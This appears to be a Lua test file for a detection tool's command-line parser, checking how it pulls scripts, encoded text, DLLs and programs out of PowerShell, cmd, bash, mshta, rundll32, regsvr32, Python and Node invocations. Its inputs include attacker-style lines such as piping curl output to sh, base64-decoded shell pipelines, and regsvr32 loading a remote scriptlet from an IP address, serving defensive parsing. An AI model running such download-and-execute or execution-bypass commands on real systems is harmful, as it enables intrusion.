-- command_test.lua: what is read off command lines: scripts, texts, encoded texts, libraries, programs.

package.path = "tests/lua/alert/?.lua;" .. package.path
local shim = require "shim"
local test = shim.test
local command = require "alert.command"

local function reads(line, expected, image)
  local got = command.read(line, image)
  for _, what in ipairs { "script", "text", "encoded", "library", "program" } do
    if got[what] ~= expected[what] then
      error(("%s\n  %s: got %s, expected %s"):format(line, what, tostring(got[what]),
                                                     tostring(expected[what])), 0)
    end
  end
end

local B64  = "VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA="            -- "Write-Host hi" in UTF-16LE
local HI   = "Write-Host hi"

test("command: every spelling of -EncodedCommand, decoded", function()
  for _, switch in ipairs { "-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "/e", "-En",
                            "\226\128\147enc" } do
    reads("powershell.exe -NoP " .. switch .. " " .. B64, { text = HI, encoded = true })
  end
  reads('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w 1 -enc  "' .. B64 .. '"',
        { text = HI, encoded = true })
end)

test("command: -ep, -exec and -ex are not -EncodedCommand", function()
  reads("powershell -ep bypass -File C:\\x\\a.ps1", { script = "C:\\x\\a.ps1" })
  reads("powershell -exec bypass -f a.ps1 -e x", { script = "a.ps1" })
  reads("pwsh -ex bypass -c Get-Date", { text = "Get-Date" })
end)

test("command: base64 of plain text is not read as UTF-16", function()
  reads('powershell.exe -EncodedCommand "aGVsbG93b3JsZA=="', { text = "helloworld", encoded = true })
end)

test("command: what is damaged is encoded, and has no text", function()
  reads("powershell.exe -w hidden -enc ......aakaakaekavgaracqaswapackafabjaeuawaa=", { encoded = true })
  reads("powershell.exe -enc", { encoded = true })
  reads("powershell.exe -enc /////w==", { encoded = true })
end)

test("command: PowerShell's positional text, and a script that is only started", function()
  reads("powershell.exe -NoExit -WindowStyle Hidden $x = 1; iex $x", { text = "$x = 1; iex $x" })
  reads('powershell -command "& \'C:\\Users\\x y\\a.ps1\' -now"', { script = "C:\\Users\\x y\\a.ps1" })
  reads("powershell .\\a.ps1 -q", { script = ".\\a.ps1" })
  reads("powershell.exe", {})
  reads("powershell -version 2 -noprofile", {})
end)

test("command: cmd is looked through", function()
  reads('cmd.exe /d /s /c "trufflehog\\trufflehog.exe filesystem . --json"',
        { program = "trufflehog\\trufflehog.exe", text = "trufflehog\\trufflehog.exe filesystem . --json" })
  reads('C:\\Windows\\SYSTEM32\\cmd.exe /c "C:\\Users\\Admin\\Demo.bat"',
        { script = "C:\\Users\\Admin\\Demo.bat" })
  reads('"cmd.exe" /c powershell -exec bypass -e ' .. B64, { text = HI, encoded = true })
  reads("cmd /cwhoami", { text = "whoami" })
  reads("cmd  /c echo /e:vbscript.encode /b", { text = "echo /e:vbscript.encode /b" })
  reads("cmd.exe /c start \"\" x & del x", { text = 'start "" x & del x' })
  reads("C:\\Windows\\system32\\cmd.exe", {})
  reads("cmd.exe /k", {})
end)

test("command: shells, and pipelines that decode", function()
  reads("bash -c {echo,ZWNobyBoaQ==}|{base64,-d}|{bash,-i}", { text = "echo hi", encoded = true })
  reads("sh -c \"echo ZWNobyBoaQ== | base64 -d | sh\"", { text = "echo hi", encoded = true })
  reads("bash -c 'base64 -d <<< ZWNobyBoaQ== | bash'", { text = "echo hi", encoded = true })
  reads("/bin/sh /usr/bin/lesspipe", { script = "/usr/bin/lesspipe" })
  reads("bash -o pipefail ./run.sh now", { script = "./run.sh" })
  reads("bash -lc 'curl http://x.example | sh'", { text = "curl http://x.example | sh" })
  reads("sh -c /opt/x/agent wql", { program = "/opt/x/agent", text = "/opt/x/agent wql" })
  reads("-bash", {})
  reads("bash -i", {})
end)

test("command: script hosts, mshta, rundll32, regsvr32", function()
  reads('"C:\\windows\\System32\\WScript.exe" "C:\\Users\\p\\Desktop\\launcher.vbs" ',
        { script = "C:\\Users\\p\\Desktop\\launcher.vbs" })
  reads("cscript //nologo //e:jscript x.txt", { script = "x.txt" })
  reads('mshta  vbscript:Execute("x")', { text = 'vbscript:Execute("x")' })
  reads("mshta https://x.example/a.hta", { text = "https://x.example/a.hta" })
  reads("mshta C:\\x\\a.hta", { script = "C:\\x\\a.hta" })
  reads("rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe", { library = "c:\\temp\\suspicious.dll" })
  reads("rundll32 c:\\users\\sam\\cyzfc.dat entrypoint", { library = "c:\\users\\sam\\cyzfc.dat" })
  reads("regsvr32.exe /s c:\\x\\evil.dll", { library = "c:\\x\\evil.dll" })
  reads("regsvr32.exe /u /n /s /i:http://10.128.0.78:8000/n.sct scrobj.dll",
        { text = "/u /n /s /i:http://10.128.0.78:8000/n.sct scrobj.dll" })
end)

test("command: Python, Node, osascript, Lua", function()
  reads("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
        { text = "print(1)", encoded = true })
  reads("python.exe -W ignore a.py --x", { script = "a.py" })
  reads('"C:\\Py\\python.exe" -m http.server 8000', { text = "-m http.server 8000" })
  reads("python", {})
  reads("node -e \"console.log(1)\"", { text = "console.log(1)" })
  reads("node.exe  index.js", { script = "index.js" })
  reads("osascript test.osa with administrator privileges", { script = "test.osa" })
  reads("osascript -e 'display dialog 1'", { text = "display dialog 1" })
  reads("lua5.4 /tmp/a.lua", { script = "/tmp/a.lua" })
end)

test("command: the image may be missing from the line, or be another interpreter", function()
  reads("-enc " .. B64, { text = HI, encoded = true }, "C:\\x\\powershell.exe")
  reads("c:\\windows\\system32\\cmd.exe", {}, "powershell.exe")
  reads("C:\\Program Files\\PowerShell\\7\\pwsh.exe -c Get-Date", { text = "Get-Date" })
end)

test("command: hostile lines are read, and end", function()
  local long = ("a"):rep(300 * 1024)
  reads("powershell -c " .. long, {})
  local deep = ("cmd /c "):rep(50) .. "x"
  assert(type(command.read(deep)) == "table")
  assert(type(command.read('cmd /c "' .. ('"'):rep(5000))) == "table")
  assert(type(command.read(("powershell -w "):rep(5000))) == "table")
  assert(next(command.read(nil)) == nil and next(command.read("")) == nil)
end)

shim.done()
